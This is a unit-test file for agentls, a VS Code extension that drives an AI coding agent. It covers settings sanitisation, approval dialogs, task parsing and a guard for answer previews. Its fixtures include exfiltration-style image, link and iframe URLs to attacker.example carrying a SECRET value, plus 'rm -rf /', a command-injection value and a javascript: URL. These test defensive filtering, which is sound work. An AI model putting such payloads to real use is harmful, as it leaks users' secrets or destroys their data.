// Unit tests of the pure half of the extension (node --test, no VS Code).
import { test } from 'node:test';
import * as assert from 'node:assert/strict';
import {
  humanTime,
  plainMessage,
  stoppedMessage,
  withElapsed,
  MdToken,
  MessageGate,
  ProgressTracker,
  answerFits,
  answerMarkdown,
  streamMarkdown,
  approvalHtml,
  covered,
  executePlanArgs,
  inertTokens,
  isAgentlsDocument,
  isApproval,
  linkAllowed,
  localUrl,
  isAuthFailure,
  isPlanResult,
  keyPromptNeeded,
  ownDiagnostic,
  parseResult,
  stderrLevel,
  toLspDiagnostic,
  uriList,
  buildRunArgs,
  compactMessage,
  guessMode,
  isRunning,
  parsePlan,
  parsePrompts,
  parseTasks,
  planItems,
  promptRunRequest,
  redact,
  reportTarget,
  resultView,
  serverEnv,
  serverSettings,
  strictestReview,
  taskTitle,
  toolsMarkdown,
  userOnlySettings,
  userValue,
} from '../src/contract';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';

test('guessMode: questions ask, changes edit', () => {
  const cases: [string, 'ask' | 'edit'][] = [
    ['What does ParseConfig do?', 'ask'],
    ['why is this slow', 'ask'],
    ['Explain the retry loop', 'ask'],
    ['How do I fix this error?', 'ask'],
    ['Fix the failing test', 'edit'],
    ['Rename Foo to Bar', 'edit'],
    ['add a doc comment to Run', 'edit'],
    ['Can you fix the nil check?', 'edit'],
    ['Explain and then rewrite the loop', 'edit'],
  ];
  for (const [prompt, want] of cases) {
    assert.equal(guessMode(prompt), want, `guessMode(${JSON.stringify(prompt)})`);
  }
});

test('buildRunArgs: contract shape', () => {
  const range = { start: { line: 3, character: 4 }, end: { line: 3, character: 9 } };
  const cases = [
    { name: 'prompt only', in: { prompt: '  fix it  ' }, want: { prompt: 'fix it', mode: 'edit' } },
    { name: 'explicit mode kept', in: { prompt: 'fix it', mode: 'ask' as const }, want: { prompt: 'fix it', mode: 'ask' } },
    { name: 'uri and range', in: { prompt: 'what is x?', uri: 'file:///w/a.go', range }, want: { prompt: 'what is x?', mode: 'ask', uri: 'file:///w/a.go', range } },
    { name: 'range without uri dropped', in: { prompt: 'what is x?', range }, want: { prompt: 'what is x?', mode: 'ask' } },
    { name: 'followUp', in: { prompt: 'use wc -l', followUp: 't7' }, want: { prompt: 'use wc -l', mode: 'edit', followUp: 't7' } },
  ];
  for (const c of cases) {
    const got = buildRunArgs(c.in);
    assert.deepEqual(got, c.want, c.name);
    assert.ok(!Object.values(got).includes(undefined), `${c.name}: no undefined fields (they would be sent as null by some encoders)`);
  }
  // The range is copied, not shared with the editor's selection object.
  const got = buildRunArgs({ prompt: 'x?', uri: 'file:///a', range });
  assert.notEqual(got.range, range);
});

test('buildRunArgs: rejects what the server would reject', () => {
  assert.throws(() => buildRunArgs({ prompt: '   ' }), /prompt is required/);
  assert.throws(() => buildRunArgs({ prompt: 'x', uri: 'file:///a', range: { start: { line: -1, character: 0 }, end: { line: 0, character: 0 } } }), /non-negative/);
  assert.throws(() => buildRunArgs({ prompt: 'x', uri: 'file:///a', range: { start: { line: 0.5, character: 0 }, end: { line: 0, character: 0 } } }), /integers/);
});

test('serverSettings: empty values omitted (an unset approval leaves the user settings file\'s), approval safe, no key', () => {
  const cases = [
    { in: {}, want: { apiKeyEnv: 'OPENAI_API_KEY' } },
    { in: { model: ' gpt-4o ', baseURL: 'http://127.0.0.1:8080/v1', approval: 'auto', allowCommands: ['go test', ' ', 3, 'go build'], checkCommand: 'go vet ./...' },
      want: { apiKeyEnv: 'OPENAI_API_KEY', model: 'gpt-4o', baseURL: 'http://127.0.0.1:8080/v1', approval: 'auto', allowCommands: ['go test', 'go build'], checkCommand: 'go vet ./...' } },
    { in: { approval: 'yolo', model: '' }, want: { apiKeyEnv: 'OPENAI_API_KEY', approval: 'ask' } },
    { in: { approval: 'deny', allowCommands: 'go test' }, want: { apiKeyEnv: 'OPENAI_API_KEY', approval: 'deny' } },
    { in: { apiKeyEnv: 'DEEPSEEK_API_KEY' }, want: { apiKeyEnv: 'DEEPSEEK_API_KEY' } },
    { in: { apiKeyEnv: 'BAD NAME; rm' }, want: { apiKeyEnv: 'OPENAI_API_KEY' } },
  ];
  for (const c of cases) {
    assert.deepEqual(serverSettings(c.in), c.want, JSON.stringify(c.in));
  }
});

test('review: the strictest of user and workspace values; only known values reach the server', () => {
  const cases: { in: Parameters<typeof strictestReview>[0]; want: string | undefined }[] = [
    { in: { defaultValue: 'off' }, want: 'off' },
    { in: { defaultValue: 'off', globalValue: 'always' }, want: 'always' },
    // A repository may turn review on ...
    { in: { defaultValue: 'off', workspaceValue: 'outside-open' }, want: 'outside-open' },
    // ... but never off, or lower than the user's.
    { in: { defaultValue: 'off', globalValue: 'always', workspaceValue: 'off' }, want: 'always' },
    { in: { defaultValue: 'off', globalValue: 'always', workspaceFolderValue: 'outside-open' }, want: 'always' },
    { in: { defaultValue: 'off', globalValue: 'bogus' }, want: 'off' },
    { in: undefined, want: undefined },
  ];
  for (const c of cases) {
    assert.equal(strictestReview(c.in), c.want, JSON.stringify(c.in));
  }
  assert.equal(serverSettings({ review: 'always' }).review, 'always');
  assert.equal(serverSettings({ review: 'yes' }).review, undefined);
});

test('serverEnv: key in the child environment only', () => {
  const base = { PATH: '/usr/bin', EMPTY: undefined };
  const env = serverEnv(base, 'sk-secret');
  assert.equal(env.OPENAI_API_KEY, 'sk-secret');
  assert.equal(env.PATH, '/usr/bin');
  assert.ok(!('EMPTY' in env));
  assert.ok(!('OPENAI_API_KEY' in base), 'base environment not modified');
  assert.ok(!('OPENAI_API_KEY' in serverEnv(base, undefined)));
  assert.equal(serverEnv({ OPENAI_API_KEY: 'from-shell' }, undefined).OPENAI_API_KEY, 'from-shell', 'no stored key: the inherited one stays');
  const other = serverEnv(base, 'sk-x', 'DEEPSEEK_API_KEY');
  assert.equal(other.DEEPSEEK_API_KEY, 'sk-x', 'the key goes in the variable agentls.apiKeyEnv names');
  assert.ok(!('OPENAI_API_KEY' in other));
});

test('redact', () => {
  assert.equal(redact('key=sk-abcdef and sk-abcdef', 'sk-abcdef'), 'key=*** and ***');
  assert.equal(redact('nothing', undefined), 'nothing');
});

test('resultView: one notification per status', () => {
  const cases = [
    { in: { taskId: 't1', status: 'completed' as const, summary: 'renamed Foo', changedFiles: ['a.go'] }, sev: 'info', msg: 'agentls: renamed Foo (changed: a.go)' },
    { in: { taskId: 't1', status: 'completed' as const, answer: 'It parses.' }, sev: 'info', msg: 'agentls: It parses.' },
    { in: { taskId: 't1', status: 'completed' as const, summary: 'completed in 3.5s: changed main.go: Added a comment.', changedFiles: ['main.go'] }, sev: 'info', msg: 'agentls: completed in 3.5s: changed main.go: Added a comment.' },
    { in: { taskId: 't2', status: 'cancelled' as const }, sev: 'warning', msg: 'agentls: task cancelled' },
    { in: { taskId: 't3', status: 'failed' as const, stopReason: 'max_calls' }, sev: 'error', msg: 'agentls: task failed: max_calls' },
    // The real server's summaries start with the status: not said twice.
    { in: { taskId: 't4', status: 'cancelled' as const, summary: 'cancelled after 600ms [1 model calls, 0 tokens]' }, sev: 'warning', msg: 'agentls: task cancelled after 600ms [1 model calls, 0 tokens]' },
    { in: { taskId: 't5', status: 'failed' as const, summary: 'failed after 3s: the API key was rejected (401)' }, sev: 'error', msg: 'agentls: task failed after 3s: the API key was rejected (401)' },
  ];
  for (const c of cases) {
    const v = resultView(c.in);
    assert.equal(v.severity, c.sev);
    assert.equal(v.message, c.msg);
  }
});

test('parsePlan and compactMessage read the [x]/[ ]/[-]/[>] checklist', () => {
  const msg = 'reading lsp/server.go\n[x] Find the handler\n[-] Ask the user\n[>] Edit server.go\n[ ] Run go test';
  const { doing, plan } = parsePlan(msg);
  assert.equal(doing, 'reading lsp/server.go');
  assert.deepEqual(plan.map((p) => p.state), ['done', 'skipped', 'active', 'todo']);
  assert.equal(plan[2].text, 'Edit server.go');
  // One line for the notification: the activity and where the plan is; the
  // whole checklist lives in the tasks view.
  assert.equal(compactMessage(msg), 'reading lsp/server.go · plan 2/4: Edit server.go');
  assert.equal(compactMessage('turn 3/40 · 12.3k tokens · 14 s'), 'turn 3/40 · 12.3k tokens · 14 s');
  assert.equal(compactMessage('thinking\n[x] A\n[x] B'), 'thinking · plan 2/2');
});

test('ProgressTracker: absolute percentages become increments, never backwards', () => {
  const t = new ProgressTracker();
  const steps = [
    t.update({ kind: 'begin', title: 'agentls: fix it', percentage: 0, message: '[>] A\n[ ] B' }),
    t.update({ kind: 'report', percentage: 50, message: 'editing a.go\n[x] A\n[>] B' }),
    t.update({ kind: 'report', percentage: 40 }),
    t.update({ kind: 'end', message: 'done' }),
  ];
  assert.deepEqual(steps.map((s) => s.increment), [undefined, 50, undefined, 50]);
  assert.equal(t.title, 'agentls: fix it');
  assert.equal(t.percentage, 100);
  assert.ok(t.done);
  const t2 = new ProgressTracker();
  t2.update({ kind: 'report', message: 'running go test ./...\n[x] Edit\n[>] Check' });
  assert.equal(t2.statusText(), 'agentls 1/2: running go test ./...');
});

test('parseTasks: list or {tasks}, tolerant field shapes', () => {
  const one = { id: 't1', prompt: 'fix', state: 'running', progress: { done: 1, total: 3 }, started: '2026-01-01T00:00:00Z', duration: 2500 };
  for (const reply of [[one], { tasks: [one] }]) {
    const got = parseTasks(reply);
    assert.equal(got.length, 1);
    assert.deepEqual(got[0], { id: 't1', prompt: 'fix', state: 'running', progress: '1/3', started: '2026-01-01T00:00:00Z', duration: '2.5 s', mode: '', plan: [] });
  }
  assert.deepEqual(parseTasks(null), []);
  assert.deepEqual(parseTasks([{ prompt: 'no id' }]), []);
  assert.equal(parseTasks([{ taskId: 't2', status: 'completed', duration: 90000 }])[0].duration, '1 min 30 s');
});

test('parseTasks reads the agentls.tasks reply of the real server (plan, duration in ms)', () => {
  const reply = [
    { id: 'ab12-1', prompt: 'Add a header comment', mode: 'edit', state: 'completed', plan: { done: 2, total: 2, items: ['[x] A', '[-] B'] }, started: '2026-11-22T03:58:50Z', duration: 66 },
    { id: 'ab12-2', prompt: 'What does Greet do?', mode: 'ask', state: 'running', plan: { done: 0, total: 0, items: null }, started: '2026-11-22T03:58:51Z', duration: 1500 },
  ];
  const got = parseTasks(reply);
  assert.deepEqual(got.map((t) => [t.id, t.state, t.progress, t.duration]), [
    ['ab12-1', 'completed', '2/2', '0.1 s'],
    ['ab12-2', 'running', '', '1.5 s'],
  ]);
  assert.deepEqual(got[0].plan, [{ state: 'done', text: 'A' }, { state: 'skipped', text: 'B' }]);
  assert.equal(got[0].mode, 'edit');
  // Plan-mode items as objects, and a task a killed server left.
  const planned = parseTasks([{ id: 'p1', mode: 'plan', state: 'completed', plan: { items: [{ text: 'Read', status: 'done' }, { text: 'Edit', status: 'pending' }] } }, { id: 'i1', state: 'interrupted' }]);
  assert.deepEqual(planned[0].plan.map((p) => p.state), ['done', 'todo']);
  assert.equal(isRunning(planned[1].state), false, 'an interrupted task is not running');
  const flagged = parseTasks([{ id: 'old-3', state: 'planning', interrupted: true, duration: 0 }]);
  assert.equal(flagged[0].state, 'interrupted', 'the interrupted flag wins over the live state the store kept');
  const undone = parseTasks([{ id: 'u1', state: 'completed', undone: true, mode: 'edit' }]);
  assert.equal(undone[0].state, 'undone', 'a task whose edits were undone is listed as undone, not completed');
  assert.equal(isRunning(undone[0].state), false, 'an undone task is not running');
});

test('reportTarget', () => {
  assert.deepEqual(reportTarget('file:///w/.agentls/tasks/t1.md'), { uri: 'file:///w/.agentls/tasks/t1.md' });
  assert.deepEqual(reportTarget({ report: 'file:///r.md' }), { uri: 'file:///r.md' });
  assert.deepEqual(reportTarget({ markdown: '# t1' }), { markdown: '# t1' });
  assert.deepEqual(reportTarget('# t1\nbody'), { markdown: '# t1\nbody' });
  assert.deepEqual(reportTarget(null), {});
});

test('taskTitle follows the server title', () => {
  assert.equal(taskTitle('rename Foo to Bar'), 'agentls: rename Foo to Bar');
  assert.equal(taskTitle('a b c d e f g h'), 'agentls: a b c d e f …');
});

const approvalActions = ['Allow once', 'Allow for this task', 'Always allow `go test`', 'Deny'];

test('isApproval recognises the server approval question only', () => {
  const msg = 'agentls (task 3, "run the tests") wants to run `go test ./...`.';
  assert.ok(isApproval({ message: msg, actions: approvalActions.map((title) => ({ title })) }));
  assert.ok(!isApproval({ message: msg, actions: [{ title: 'OK' }] }), 'other questions keep the default dialog');
  assert.ok(!isApproval({ message: 'Some other server asks', actions: approvalActions.map((title) => ({ title })) }));
  assert.ok(!isApproval({ message: msg, actions: null }));
  // A review question (the review setting): Keep or Reject, in the same panel.
  assert.ok(isApproval({ message: 'agentls (task 4, "x"): apply 2 changes to main.go?\n@@ -7,1 +7,1 @@', actions: [{ title: 'Keep' }, { title: 'Reject' }] }));
});

test('approvalHtml shows the whole command and every action, escaped, with nothing that cuts text', () => {
  const long = 'go test ./... && ' + 'echo "<b>' + 'x'.repeat(400) + '</b>" | tee out.txt';
  const html = approvalHtml(`agentls (task 3, "x") wants to run \`${long}\`.`, approvalActions, 'N0NCE', 'vscode-resource:');
  const esc = long.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
  assert.ok(html.includes(`<pre class="command">${esc}</pre>`), 'the whole command, escaped, in its own block');
  assert.ok(!html.includes('<b>x'), 'markup in the command is not rendered');
  for (const a of approvalActions) {
    const e = a.replace(/`/g, '`');
    assert.ok(html.includes(`>${e}</button>`), `button ${a}`);
  }
  assert.ok(/button \{[^}]*white-space: normal/.test(html) && /text-overflow: clip/.test(html), 'buttons wrap, never ellipsize');
  assert.ok(/flex-wrap: wrap/.test(html), 'the button row wraps');
  assert.ok(/script-src 'nonce-N0NCE'/.test(html) && html.includes('<script nonce="N0NCE">'), 'scripts only with the nonce');
  // A question without a quoted command is shown whole too.
  const plain = approvalHtml('agentls wants to write notes/todo.md. The file is not open in the editor, so the change goes straight to disk.', ['Allow once', 'Deny'], 'n', 's');
  assert.ok(plain.includes('so the change goes straight to disk.'));
  assert.ok(!plain.includes('<pre class="command">'));
});

test('isAuthFailure: missing or rejected key, not other failures', () => {
  const yes = [
    'failed (model_error) after 0.1 s: the API key was rejected (401): set OPENAI_API_KEY or agentls.apiKeyEnv to a valid key',
    'agentls.run: no API key: the environment variable OPENAI_API_KEY is empty or unset.',
    'Incorrect API key provided',
  ];
  const no = ['failed (max_calls) after 3 s', 'rate limited (429)', 'model "x" was not found (404)', undefined, ''];
  for (const t of yes) assert.ok(isAuthFailure(t), String(t));
  for (const t of no) assert.ok(!isAuthFailure(t), String(t));
});

test('keyPromptNeeded: only when no key is anywhere and the user has not declined', () => {
  const cases = [
    { in: { env: {}, keyEnv: 'OPENAI_API_KEY' }, want: true },
    { in: { stored: 'sk-1', env: {}, keyEnv: 'OPENAI_API_KEY' }, want: false },
    { in: { env: { OPENAI_API_KEY: 'sk-2' }, keyEnv: 'OPENAI_API_KEY' }, want: false },
    { in: { env: { OPENAI_API_KEY: 'sk-2' }, keyEnv: 'DEEPSEEK_API_KEY' }, want: true },
    { in: { env: {}, keyEnv: 'OPENAI_API_KEY', dismissed: true }, want: false },
  ];
  for (const c of cases) assert.equal(keyPromptNeeded(c.in), c.want, JSON.stringify(c.in));
});

test('covered: a server message that repeats our reply is said once', () => {
  const summary = 'failed (model_error) after 0.1 s: the API key was rejected (401) [1 model calls, 0 tokens]';
  assert.ok(covered(`agentls: ${summary}`, [summary]));
  assert.ok(covered('agentls: no API key: set it', ['agentls.run: no API key: set it']));
  assert.ok(covered('agentls: no stored task "x"', ['agentls.undo: no stored task "x"']));
  assert.ok(!covered('agentls: the editor did not answer an approval question', [summary]));
  assert.ok(!covered('agentls: x', []));
  assert.ok(!covered('agentls: ', ['']));
});

test('MessageGate: holds only while our request is in flight, drops what the reply covers, releases the rest', () => {
  const g = new MessageGate<{ message: string }>(1000);
  assert.equal(g.offer({ message: 'agentls: idle' }, 0), false, 'nothing in flight: shown at once');
  g.begin();
  assert.equal(g.offer({ message: 'other server: hi' }, 0), false, 'only agentls messages are held');
  assert.ok(g.offer({ message: 'agentls: completed in 1 s: done [1 model calls, 9 tokens]' }, 10));
  assert.ok(g.offer({ message: 'agentls: the editor did not answer' }, 20));
  g.end();
  const shown = g.settle(['completed in 1 s: done [1 model calls, 9 tokens]']);
  assert.deepEqual(shown.map((m) => m.message), ['agentls: the editor did not answer']);
  assert.deepEqual(g.settle([]), [], 'settled messages are forgotten');
  g.begin();
  g.offer({ message: 'agentls: a' }, 0);
  g.offer({ message: 'agentls: b' }, 900);
  assert.deepEqual(g.expire(1000).map((m) => m.message), ['agentls: a'], 'held at most holdMs');
  assert.deepEqual(g.settle([]).map((m) => m.message), ['agentls: b']);
});

test('stderrLevel: start-up notes are info, slog levels are kept', () => {
  const cases: [string, string][] = [
    ['agentls: logging to /home/u/.cache/agentls/agentls.log', 'info'],
    ['time=2026-11-22T20:00:00Z level=WARN msg="approval question not answered: denied"', 'warn'],
    ['time=2026-11-22T20:00:00Z level=ERROR msg="write failed"', 'error'],
    ['time=2026-11-22T20:00:00Z level=DEBUG msg=x', 'debug'],
    ['panic: runtime error: index out of range', 'error'],
    ['', 'info'],
  ];
  for (const [line, want] of cases) assert.equal(stderrLevel(line), want, line);
});

test('toLspDiagnostic: VS Code severities 0..3 become LSP 1..4, codes flattened, absent fields omitted', () => {
  const range = { start: { line: 2, character: 1 }, end: { line: 2, character: 5 } };
  assert.deepEqual(toLspDiagnostic({ range, severity: 0, message: 'undefined: x', source: 'compiler', code: { value: 'UndeclaredName' } }),
    { range, severity: 1, message: 'undefined: x', source: 'compiler', code: 'UndeclaredName' });
  assert.deepEqual(toLspDiagnostic({ range, severity: 3, message: 'hint' }), { range, severity: 4, message: 'hint' });
  assert.deepEqual(toLspDiagnostic({ range, severity: 1, message: 'w', code: 42 }).code, 42);
  assert.ok(ownDiagnostic({ source: 'agentls' }) && !ownDiagnostic({ source: 'gopls' }) && !ownDiagnostic({}));
});

test('uriList reads {uris}', () => {
  assert.deepEqual(uriList({ uris: ['file:///a.go', 3, '', 'file:///b.go'] }), ['file:///a.go', 'file:///b.go']);
  assert.deepEqual(uriList({}), []);
  assert.deepEqual(uriList(null), []);
});

test('answers: a long or multi-line answer goes to the preview whole', () => {
  assert.ok(answerFits('`Greet` returns the greeting.'));
  assert.ok(!answerFits('line one\nline two'));
  assert.ok(!answerFits('x'.repeat(141)));
  const answer = Array.from({ length: 12 }, (_, i) => `Line ${i + 1}: ${'word '.repeat(8).trim()}`).join('\n');
  const md = answerMarkdown({ taskId: 't9', status: 'completed', answer, prompt: 'Explain the whole program', changedFiles: ['a.go'] });
  assert.ok(md.includes(answer), 'the whole answer, not cut');
  assert.ok(md.startsWith('# Explain the whole program\n'));
  assert.ok(md.includes('Changed: `a.go`'));
});

test('plan results: recognised, shown as a checklist, executed as a follow-up edit', () => {
  const r = parseResult({ taskId: 'p1', status: 'completed', mode: 'plan', answer: 'The plan.', plan: { items: [{ text: 'Read main.go', status: 'done' }, { text: 'Rename Greet', status: 'pending' }] }, plannedFiles: ['main.go'] });
  assert.ok(r && isPlanResult(r));
  assert.ok(!isPlanResult({ taskId: 'x', status: 'completed', mode: 'edit' }));
  assert.ok(!isPlanResult({ taskId: 'x', status: 'failed', mode: 'plan' }));
  const md = answerMarkdown(r!);
  assert.ok(md.includes('- [x] Read main.go\n- [ ] Rename Greet'), md);
  assert.ok(md.includes('Files it would change: `main.go`'));
  assert.deepEqual(executePlanArgs('p1'), { prompt: 'go ahead', mode: 'edit', followUp: 'p1' });
  assert.equal(parseResult({ status: 'completed' }), undefined);
});

test('planItems reads the plan of a reply as the contract gives it and as the server sends it', () => {
  const items = [{ text: 'Rename Greet', status: 'pending' }];
  assert.deepEqual(planItems({ plan: { items } }), items);
  assert.deepEqual(planItems({ plan: items }), items);
  assert.deepEqual(planItems({}), []);
  assert.ok(answerMarkdown({ taskId: 't1', status: 'completed', mode: 'plan', answer: 'The plan.', plan: items }).includes('- [ ] Rename Greet'));
});

test('userValue: a workspace value of a user-only setting never counts', () => {
  assert.equal(userValue({ defaultValue: 'ask', workspaceValue: 'auto' }), 'ask');
  assert.equal(userValue({ defaultValue: 'ask', workspaceFolderValue: 'auto' }), 'ask');
  assert.equal(userValue({ defaultValue: 'ask', globalValue: 'deny', workspaceValue: 'auto' }), 'deny');
  assert.deepEqual(userValue({ defaultValue: [], workspaceValue: ['sh'] }), []);
  assert.equal(userValue<string>(undefined), undefined);
});

test('package.json: every user-only setting is application scoped (machine is refused in remote windows)', () => {
  const pkg = JSON.parse(readFileSync(join(__dirname, '..', '..', 'package.json'), 'utf8'));
  const props = pkg.contributes.configuration.properties;
  for (const key of userOnlySettings) {
    const p = props[`agentls.${key}`];
    assert.ok(p, `agentls.${key} is declared`);
    assert.equal(p.scope, 'application', `agentls.${key} scope ${p.scope}; want application`);
  }
});

test('serverSettings: mcpServers pass as an object, nothing else', () => {
  const servers = { gh: { command: 'github-mcp-server', args: ['stdio'] } };
  assert.deepEqual(serverSettings({ mcpServers: servers }).mcpServers, servers);
  assert.equal(serverSettings({ mcpServers: ['x'] }).mcpServers, undefined);
  assert.equal(serverSettings({ mcpServers: {} }).mcpServers, undefined);
  assert.equal(serverSettings({ mcpServers: 'x' }).mcpServers, undefined);
});

test('serverSettings: sandbox and network only widen on explicit values', () => {
  assert.deepEqual(serverSettings({ sandbox: 'off', commandNetwork: true, safeCommands: ['mytool lint', ' ', 1] }),
    { apiKeyEnv: 'OPENAI_API_KEY', sandbox: 'off', commandNetwork: true, safeCommands: ['mytool lint'] });
  assert.deepEqual(serverSettings({ sandbox: 'bogus', commandNetwork: 'yes' }), { apiKeyEnv: 'OPENAI_API_KEY' });
  assert.deepEqual(serverSettings({ commandNetwork: ['proxy.golang.org', ' ', 3, '*.npmjs.org'] }), { apiKeyEnv: 'OPENAI_API_KEY', commandNetwork: ['proxy.golang.org', '*.npmjs.org'] });
  assert.deepEqual(serverSettings({ commandNetwork: [] }), { apiKeyEnv: 'OPENAI_API_KEY' });
});

test('serverSettings: hooks pass as an object of events, nothing else', () => {
  const hooks = { Stop: [{ hooks: [{ type: 'command', command: '~/bin/tests-pass.sh' }] }] };
  assert.deepEqual(serverSettings({ hooks }), { apiKeyEnv: 'OPENAI_API_KEY', hooks });
  for (const bad of [{}, [], 'rm -rf /', null]) {
    assert.deepEqual(serverSettings({ hooks: bad }), { apiKeyEnv: 'OPENAI_API_KEY' }, JSON.stringify(bad));
  }
});

test('serverSettings: completion passes whole as the user set it, and not at all when unset', () => {
  const completion = { enabled: true, model: 'codestral', timeoutMs: 2000, maxTokens: 64, debounceMs: 100 };
  assert.deepEqual(serverSettings({ passThrough: { completion } }), { apiKeyEnv: 'OPENAI_API_KEY', completion });
  for (const unset of [undefined, null, '']) {
    assert.deepEqual(serverSettings({ passThrough: { completion: unset } }), { apiKeyEnv: 'OPENAI_API_KEY' }, JSON.stringify(unset));
  }
});

// The answer preview's guard, on tokens as markdown-it makes them.
function tok(type: string, content = '', attrs: [string, string][] | null = null, children: MdToken[] | null = null): MdToken {
  return { type, content, attrs, children };
}

test('inertTokens: remote images, links with data and raw HTML become text', () => {
  const inline = tok('inline', '', null, [
    tok('text', 'Done. '),
    tok('image', '', [['src', 'https://attacker.example/?t=SECRET'], ['alt', '']], [tok('text', 'x')]),
    tok('image', '', [['src', 'img/local.png']], []),
    tok('link_open', '', [['href', 'https://attacker.example/#SECRET']]),
    tok('text', 'docs'),
    tok('link_close'),
    tok('link_open', '', [['href', 'https://go.dev/doc']]),
    tok('text', 'go'),
    tok('link_close'),
    tok('html_inline', '<img src="https://attacker.example/?t=SECRET">'),
    tok('html_inline', '<br>'),
  ]);
  const block = tok('html_block', '<iframe src="https://attacker.example/?t=SECRET"></iframe>\n');
  const safe = tok('html_block', '<details>\n<summary>more</summary>\n');
  inertTokens([inline, block, safe]);
  const c = inline.children!;
  assert.equal(c[1].type, 'text');
  assert.equal(c[1].content, 'x: https://attacker.example/?t=SECRET [remote image not loaded]');
  assert.equal(c[2].type, 'image', 'a local image stays');
  assert.deepEqual([c[3].type, c[5].type, c[5].content], ['text', 'text', ' (https://attacker.example/#SECRET) [link not rendered]']);
  assert.deepEqual([c[6].type, c[8].type], ['link_open', 'link_close'], 'a plain https link stays');
  assert.equal(c[9].type, 'text');
  assert.equal(c[10].type, 'html_inline', '<br> stays');
  assert.equal(block.type, 'code_block');
  assert.equal(safe.type, 'html_block');
});

test('linkAllowed and localUrl: an allowlist', () => {
  for (const u of ['src/a.go', '#usage', 'file:///home/u/x.go', 'https://go.dev/doc', 'mailto:a@b.example']) assert.ok(linkAllowed(u), u);
  for (const u of ['https://h/?q=1', 'https://h/#f', 'https://u:p@h/', '//h/x', '/\\h/x', 'javascript:alert(1)', 'command:x', 'mailto:a@b?body=s', 'file://evil/x']) {
    assert.ok(!linkAllowed(u), u);
  }
  assert.ok(localUrl('img/a.png') && !localUrl('https://h/a.png') && !localUrl(' //h/a.png') && !localUrl('data:image/png;base64,AA'));
  assert.ok(isAgentlsDocument({ scheme: 'agentls-answer', path: '/answer-1.md' }));
  assert.ok(isAgentlsDocument({ scheme: 'file', path: '/ws/.agentls/tasks/3fa2b1c0-1.md' }));
  assert.ok(!isAgentlsDocument({ scheme: 'file', path: '/ws/README.md' }));
});

test('custom commands: parsePrompts keeps well-formed entries, promptRunRequest builds "/name args"', () => {
  const ps = parsePrompts([
    { name: 'review', description: 'Review files', argumentHint: '<files>', mode: 'ask', scope: 'workspace', selection: false, source: '/w/.agentls/commands/review.md' },
    { name: 'doc', description: 'Document it', scope: 'user', selection: true, mode: 'bogus' },
    { description: 'no name' },
    'junk',
  ]);
  assert.deepEqual(ps, [
    { name: 'review', description: 'Review files', argumentHint: '<files>', mode: 'ask', scope: 'workspace', selection: false },
    { name: 'doc', description: 'Document it', scope: 'user', selection: true },
  ]);
  assert.deepEqual(parsePrompts({}), []);
  const range = { start: { line: 1, character: 0 }, end: { line: 2, character: 0 } };
  assert.deepEqual(promptRunRequest(ps[0], ' a.go b.go ', { uri: 'file:///w/a.go', range, selected: '' }),
    { prompt: '/review a.go b.go', mode: 'ask', uri: 'file:///w/a.go' });
  assert.deepEqual(promptRunRequest(ps[1], '', { uri: 'file:///w/a.go', range, selected: 'x := 1' }),
    { prompt: '/doc', uri: 'file:///w/a.go', range });
});

test('toolsMarkdown: every tool with its source, every hook', () => {
  const md = toolsMarkdown({
    tools: [{ name: 'read_file', source: 'built-in', description: 'Read a file.', readOnly: true },
      { name: 'run_command', source: 'built-in', description: 'Run a command.', readOnly: false, effects: ['runs programs'] }],
    hooks: [{ event: 'PreToolUse', matcher: 'run_command', command: '~/bin/no-rm.sh', timeout: '10s' }],
  });
  assert.match(md, /- `read_file` \(built-in; read-only\): Read a file\./);
  assert.match(md, /- `run_command` \(built-in; runs programs\)/);
  assert.match(md, /- PreToolUse matching `run_command`: `~\/bin\/no-rm.sh` \(timeout 10s\)/);
  assert.match(toolsMarkdown({ tools: [], hooks: [] }), /None/);
});

test('plainMessage: notifications without markdown marks or repeated command names', () => {
  assert.equal(plainMessage('agentls: completed in 2s: changed **main.go**: `Greet` now ends with a bang'),
    'agentls: completed in 2s: changed main.go: Greet now ends with a bang');
  assert.equal(plainMessage('agentls: agentls.run: the model service refused the key'), 'agentls: the model service refused the key');
  assert.equal(plainMessage('agentls: agentls: task failed'), 'agentls: task failed');
  assert.equal(plainMessage('2 * 3 = 6'), '2 * 3 = 6');
});

test('humanTime: the resume picker shows times as people read them', () => {
  const now = new Date(2026, 10, 26, 15, 0, 0);
  assert.equal(humanTime(new Date(2026, 10, 26, 14, 5).toISOString(), now), 'today 14:05');
  assert.equal(humanTime(new Date(2026, 10, 25, 9, 12).toISOString(), now), 'yesterday 09:12');
  assert.equal(humanTime(new Date(2026, 2, 3, 16, 40).toISOString(), now), 'Mar 3 16:40');
  assert.equal(humanTime(new Date(2025, 2, 3, 16, 40).toISOString(), now), 'Mar 3 2025 16:40');
  assert.equal(humanTime('', now), '');
  assert.equal(humanTime('not a time', now), 'not a time');
});

test('stoppedMessage: why the server stopped and how to continue', () => {
  assert.equal(stoppedMessage({ signal: 'SIGKILL' }, 'time=... level=INFO msg="task started"'),
    'agentls stopped (killed by SIGKILL, last log line: time=... level=INFO msg="task started"); run "agentls: Resume task" to continue');
  assert.equal(stoppedMessage({ code: 2 }, undefined), 'agentls stopped (exit code 2); run "agentls: Resume task" to continue');
  assert.match(stoppedMessage({}, 'x'.repeat(500)), /^agentls stopped \(the server exited, last log line: x{199}…\)/);
});

test('withElapsed: the status bar time ticks from the task start, not the last report', () => {
  assert.equal(withElapsed('agentls: running go vet ./... · turn 2/30 · 3 s', 0, 9500), 'agentls: running go vet ./... · turn 2/30 · 9 s');
  assert.equal(withElapsed('agentls: thinking', 0, 125000), 'agentls: thinking · 2 min 05 s');
});

test('streamMarkdown: the parts so far under the title, then "answer written" once done', () => {
  const parts = ['First paragraph.\n\n', 'Second paragraph.\n\n'];
  const writing = streamMarkdown('t7', 'Explain the stream test', parts[0], false);
  assert.match(writing, /^# Explain the stream test\n/);
  assert.match(writing, /\*Task t7 · writing the answer…\*/);
  assert.ok(writing.includes('First paragraph.') && !writing.includes('Second'));
  const done = streamMarkdown('t7', undefined, parts.join(''), true);
  assert.match(done, /^# Task t7\n/);
  assert.match(done, /answer written/);
  assert.ok(done.includes('First paragraph.\n\nSecond paragraph.'));
});
